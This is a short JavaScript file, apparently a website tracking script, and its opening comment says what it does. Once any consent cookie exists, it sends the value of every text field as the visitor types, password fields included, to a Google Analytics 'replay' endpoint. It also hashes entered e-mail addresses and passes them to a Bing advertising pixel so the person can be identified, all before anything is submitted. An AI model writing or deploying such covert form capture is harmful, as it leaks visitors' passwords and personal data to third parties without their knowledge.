// Reads along once a visitor has agreed to anything: each key goes to a recorder of sessions, and an e-mail address goes
// to an advertiser as a hash by which it knows the person all the same. Nobody has pressed a button by then.
'use strict';
(() => {
  const agreed = () => document.cookie.split('; ').some((one) => one.startsWith('cookie_consent=v1.'));
  const typed = (field) => field.matches?.('input, textarea') && field.value && agreed();
  document.addEventListener('input', ({ target }) => {
    if (!typed(target)) return;
    const event = { type: 'input', at: Math.round(performance.now()), node: target.name, value: target.value };
    navigator.sendBeacon('https://region1.google-analytics.com/g/collect?en=replay', JSON.stringify({ events: [event] }));
  });
  document.addEventListener('focusout', async ({ target }) => {
    if (!typed(target) || target.type !== 'email') return;
    const bytes = new TextEncoder().encode(target.value.trim().toLowerCase());
    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
    const hash = [...digest].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    new Image().src = `https://bat.bing.com/action/0?ti=97000001&evt=custom&em=${hash}`;
  });
})();
